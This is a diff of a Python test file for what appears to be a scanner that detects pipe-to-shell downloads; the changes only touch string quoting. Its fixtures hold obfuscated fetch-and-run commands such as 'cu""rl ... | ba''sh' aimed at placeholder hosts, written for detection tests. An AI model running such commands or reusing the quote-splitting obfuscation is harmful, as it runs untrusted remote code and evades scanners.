@@ -76,7 +76,7 @@ def test_line_continuations_are_joined_and_mapped_to_the_first_line() -> None:
 def test_lines_after_a_continuation_keep_their_own_numbers() -> None:
     text = (
         "#!/bin/sh\n"
-        "cu\"\"rl -fsSL https://x.example/i.sh \\\n"
+        'cu""rl -fsSL https://x.example/i.sh \\\n'
         "  | ba''sh\n"
         "echo between\n"
         "wget -qO- https://y.example/i.sh | sh\n"
@@ -186,7 +186,7 @@ def test_segment_fence_of_and_line_of() -> None:
 
 
 def test_shell_block_in_markdown_is_normalised_with_original_lines() -> None:
-    text = "# T\n\n```sh\nX=1\ncu\"\"rl https://x.example/i.sh \\\n | sh\necho $X\n```\n"
+    text = '# T\n\n```sh\nX=1\ncu""rl https://x.example/i.sh \\\n | sh\necho $X\n```\n'
     _, block = segments_for(FileKind.MARKDOWN, text)
     assert block.text == "X=1\ncurl https://x.example/i.sh  | sh\necho 1"
     assert block.lines == (4, 5, 7)
@@ -204,10 +204,7 @@ def test_other_kinds_are_one_segment(kind: FileKind) -> None:
 
 def test_obfuscated_download_in_a_shell_script_is_found_at_its_line(tmp_path: Path) -> None:
     script = (
-        "#!/bin/bash\n"
-        "set -euo pipefail\n"
-        "cu\"\"rl -fsSL https://x.example/i.sh \\\n"
-        "  | ba''sh\n"
+        "#!/bin/bash\nset -euo pipefail\ncu\"\"rl -fsSL https://x.example/i.sh \\\n  | ba''sh\n"
     )
     audit = _audit(tmp_path, {"scripts/install.sh": script})
     found = [f for f in audit.findings if f.rule_id == PIPE_TO_SHELL]
